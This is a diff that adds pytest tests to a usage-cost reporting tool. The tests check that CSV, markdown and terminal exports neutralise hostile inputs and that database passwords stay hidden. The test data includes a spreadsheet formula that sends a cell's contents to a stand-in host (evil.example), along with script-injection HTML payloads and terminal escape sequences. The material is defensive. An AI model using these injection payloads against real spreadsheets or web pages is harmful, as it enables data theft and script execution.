@@ -732,3 +732,143 @@ def test_the_big_config_message_says_what_it_counts():
     aliased = {"a": [shared] * 2000}
     with pytest.raises(YAMLProblem, match="YAML aliases expand to more than 1,000,000 values"):
         _check_bounds(aliased)
+
+
+# -- exports safe to open, text safe to show -----------------------------------------------------------------
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\r=CR"]
+
+
+def hostile_usage(tmp_path) -> str:
+    recs = [{"model": "gpt-4o", "prompt_tokens": 10 + i, "timestamp": 1.7e9 + i, "team": f, "user": f}
+            for i, f in enumerate(FORMULAS)]
+    recs.append({"model": "gpt-4o", "prompt_tokens": 1, "timestamp": 1.7e9, "team": 'a,b "q"\r\nnext', "user": "ok"})
+    recs.append({"model": 'bad\r\nmodel,"x"', "prompt_tokens": 1, "timestamp": 1.7e9, "team": "t", "user": "ok"})
+    return write(tmp_path, "hostile.jsonl", lines(*recs))
+
+
+def test_formula_cells_are_neutralised_in_csv_and_focus_and_read_back_whole(capsys, tmp_path, monkeypatch):
+    import csv as csv_module
+
+    import duckdb
+
+    from costcalc.reports.cells import printable, spreadsheet_cell
+
+    path = hostile_usage(tmp_path)
+    for args in (["--format", "csv", "-g", "team"], ["--format", "csv", "--per-record"],
+                 ["--format", "csv", "-g", "team", "--currency", "EUR", "--fx-rate", "0.5"], ["--format", "focus"]):
+        out = tmp_path / "out.csv"
+        code, _, err = run(capsys, "price", path, *args, "--output", str(out))
+        assert code == 0, err
+        with open(out, newline="") as f:
+            rows = list(csv_module.reader(f))
+        cells = [c for row in rows for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], args
+        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit()], args
+        if "focus" not in args:  # the teams as the JSON report has them, each neutralised when it would be a formula
+            code, doc, _ = run(capsys, "price", path, "--format", "json", "-g", "team")
+            teams = {g["key"]["team"] for g in json.loads(doc)["groups"]}
+            col = rows[0].index("team")
+            written = {row[col] for row in rows[1:]} - {"", "TOTAL"}
+            # (control characters in group keys show as \xNN in some exports, as on a terminal)
+            assert {spreadsheet_cell(printable(t)) for t in teams} <= written \
+                or {spreadsheet_cell(t) for t in teams} <= written
+        if "--per-record" in args:  # a model name is written as it is: CR, LF, quotes and commas read back whole
+            assert rows[-1][rows[0].index("model")] == 'bad\r\nmodel,"x"'
+        assert len(rows) == len({tuple(r) for r in rows}) and all(len(r) == len(rows[0]) for r in rows)
+        # DuckDB's reader sees the same rows: a CR or LF inside a value does not split its row
+        assert len(duckdb.read_csv(str(out), header=True, all_varchar=True).fetchall()) == len(rows) - 1
+    monkeypatch.setenv("COSTCALC_RAW_CELLS", "1")  # the opt-out: values byte for byte
+    code, out_text, _ = run(capsys, "price", path, "--format", "csv", "-g", "team")
+    assert code == 0
+    teams = [row[0] for row in csv_module.reader(io.StringIO(out_text, newline=""))]
+    assert set(FORMULAS) <= set(teams)
+
+
+def test_discounts_written_by_costcalc_stay_numbers(capsys, tmp_path):
+    config = write(tmp_path, "c.yaml", "model_list:\n  - model_name: m\n    litellm_params: {model: openai/gpt-4o}\n"
+                   "litellm_settings: {cost_discount_config: {openai: 0.5}}\n")
+    path = write(tmp_path, "u.jsonl", lines({"model": "m", "prompt_tokens": 1000}))
+    code, out, _ = run(capsys, "price", path, "--config", config, "--format", "csv")
+    assert code == 0
+    header, row, _ = list(csv_module_reader(out))
+    # 1000 tokens x $2.5e-6 = $0.0025, half of it discounted
+    assert row[header.index("discount_cost")] == "-0.00125"
+
+
+def csv_module_reader(text: str) -> list[list[str]]:
+    import csv as csv_module
+
+    return list(csv_module.reader(io.StringIO(text, newline="")))
+
+
+def test_markdown_escapes_html_and_control_characters(capsys, tmp_path):
+    path = write(tmp_path, "u.jsonl", lines(
+        {"model": "gpt-4o", "prompt_tokens": 1, "team": "<script>alert(1)</script>"},
+        {"model": "gpt-4o", "prompt_tokens": 1, "team": "<img src=x onerror=alert(1)> & <iframe srcdoc='x'>"},
+        {"model": "gpt-4o", "prompt_tokens": 1, "team": "\x1b[2A\x1b[2Kgone"},
+        {"model": "<b>bold</b>", "prompt_tokens": 1}))
+    code, out, _ = run(capsys, "price", path, "-g", "team", "--format", "markdown")
+    assert code == 0
+    assert "<" not in out.replace("<br>", "") and "\x1b" not in out
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in out and "&amp;" in out and "\\x1b[2A\\x1b[2Kgone" in out
+    code, out, _ = run(capsys, "price", path, "-g", "team")
+    assert code == 0 and "\x1b" not in out and "\\x1b[2A" in out
+
+
+# -- one JSON semantics across engines -------------------------------------------------------------------------
+
+ODD_JSON = (b'{"model": "gpt-4o", "prompt_tokens": 10, "prompt_tokens": 20000}\n'
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "user": "a", "user" : "b"}\n'
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "metadata": {"x": 1, "x": 2}}\n'
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "\\u0075ser": "a", "user": "b"}\n'
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "tags": ' + b"[" * 64 + b"]" * 64 + b"}\n"
+            b'{"model": "gpt-4o", "prompt_tokens": 5, "tags": ' + b"[" * 62 + b"]" * 62 + b"}\n"
+            b'{"model": "gpt-4o", "prompt_tokens": 7, "note": "a\\":1, \\"b\\":2"}\n')
+
+
+@pytest.mark.parametrize("engine", ["python", "duckdb"])
+def test_repeated_keys_and_deep_nesting_are_rejected_by_every_engine(capsys, tmp_path, engine):
+    path = write(tmp_path, "odd.jsonl", ODD_JSON * 3)
+    doc = price_json(capsys, path, "--engine", engine)
+    assert doc["accounting"]["priced"] == 6 and doc["accounting"]["rejected"] == 15
+    reasons = {(r["line"] - 1) % 7 + 1: r["reason"] for r in doc["rejected"]}
+    assert reasons[1].startswith('repeated key "prompt_tokens"')
+    assert reasons[2].startswith('repeated key "user"') and reasons[4].startswith('repeated key "user"')
+    assert reasons[3].startswith('repeated key "x"')
+    assert reasons[5].startswith("nested deeper than 64 levels")
+    # 3 x (5 tokens at $2.5e-6 + 7 tokens at $2.5e-6) = $0.00009, and the sample config's 5% global margin
+    assert doc["totals"]["cost"]["total"] == 0.0000945
+
+
+# -- databases: the password, a frozen server ------------------------------------------------------------------
+
+def test_a_url_password_is_gone_from_the_process_arguments(tmp_path):
+    import socket
+
+    # a server that accepts and never answers: costcalc waits (connect timeout) long enough to be looked at
+    listener = socket.socket()
+    listener.bind(("127.0.0.1", 0))
+    listener.listen(5)
+    port = listener.getsockname()[1]
+    seen: list[bytes] = []
+
+    def look(proc: Any) -> None:
+        import time
+
+        def read() -> None:
+            time.sleep(1.5)
+            with open(f"/proc/{proc.pid}/cmdline", "rb") as f:
+                seen.append(f.read())
+
+        threading.Thread(target=read, daemon=True).start()
+
+    try:
+        done = costcalc_process("price", f"postgresql://u:hunter2-pw@127.0.0.1:{port}/db", "--db-timeout", "3",
+                                started=look, timeout=60)
+    finally:
+        listener.close()
+    assert seen and b"postgresql://u:" in seen[0] and b"hunter2-pw" not in seen[0], seen
+    assert done.code == 2
+    one_error_line(done.err, "postgresql://u:***@127.0.0.1", "unreachable")
+    assert "hunter2-pw" not in done.err
